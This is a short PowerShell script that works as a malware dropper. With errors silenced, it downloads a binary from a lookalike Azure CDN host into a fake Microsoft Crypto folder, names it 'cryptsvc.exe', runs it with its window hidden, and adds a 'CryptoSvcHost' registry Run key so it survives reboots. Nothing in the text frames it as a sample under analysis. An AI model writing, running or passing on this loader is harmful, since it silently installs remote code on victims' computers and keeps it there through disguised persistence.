$ErrorActionPreference = 'SilentlyContinue'
$dir = Join-Path -Path $env:APPDATA -ChildPath 'Microsoft\Crypto\RSA'
if (-not (Test-Path -Path $dir)) {
    New-Item -ItemType Directory -Path $dir -Force | Out-Null
}
$stage = Join-Path -Path $dir -ChildPath 'cryptsvc.exe'
Start-BitsTransfer -Source 'http://cdn-update.azureedge-files.net/k/upd.bin' -Destination $stage
if (Test-Path -Path $stage) {
    Start-Process -FilePath $stage -WindowStyle Hidden
    $rk = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
    Set-ItemProperty -Path $rk -Name 'CryptoSvcHost' -Value "`"$stage`" /background"
}
